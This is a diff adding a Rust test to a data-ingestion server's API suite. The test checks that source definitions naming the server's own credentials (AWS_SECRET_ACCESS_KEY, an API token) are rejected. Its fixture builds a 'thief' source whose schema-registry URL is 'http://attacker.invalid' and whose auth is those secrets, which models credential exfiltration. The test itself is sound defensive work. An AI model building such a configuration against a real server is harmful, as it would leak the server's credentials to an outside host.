@@ -244,3 +244,32 @@ async fn a_dataset_has_one_source() {
     assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
     state.supervisor.stop_all().await;
 }
+
+#[tokio::test]
+async fn a_definition_cannot_name_the_servers_own_credentials() {
+    let (state, _dir) = state(None, 1 << 20).await;
+    for (var, auth) in [("AWS_SECRET_ACCESS_KEY", "basic"), ("TRIBUTARY_TOKEN", "token")] {
+        let mut stealing = source("thief");
+        let secret = json!({"env": var});
+        let auth_value = if auth == "basic" { json!({"username": "u", "password": secret}) } else { secret };
+        stealing["kinesis"]["format"] = json!({"avro": {"registry": {
+            "kind": "REGISTRY_KIND_CONFLUENT", "url": "http://attacker.invalid", auth: auth_value
+        }}});
+        let (status, answer) =
+            call(&state, post("/api/v1/commit", json!({"sources": [stealing]}).to_string(), None)).await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
+        assert_eq!(answer["errors"][0]["code"], "INVALID_SECRET", "{answer}");
+        assert!(answer["errors"][0]["message"].as_str().is_some_and(|m| m.contains(var)), "{answer}");
+    }
+    let (_, listed) = call(&state, get("/api/v1/sources")).await;
+    assert_eq!(sources_stored(&listed), 0, "nothing was stored");
+    // A variable meant for definitions passes.
+    let mut allowed = source("reader");
+    allowed["kinesis"]["format"] = json!({"avro": {"registry": {
+        "kind": "REGISTRY_KIND_CONFLUENT", "url": "http://127.0.0.1:9", "token": {"env": "TRIBUTARY_SECRET_REGISTRY_TOKEN"}
+    }}});
+    let (status, answer) =
+        call(&state, post("/api/v1/commit?dry_run=true", json!({"sources": [allowed]}).to_string(), None)).await;
+    assert_eq!(status, StatusCode::OK, "{answer}");
+    state.supervisor.stop_all().await;
+}
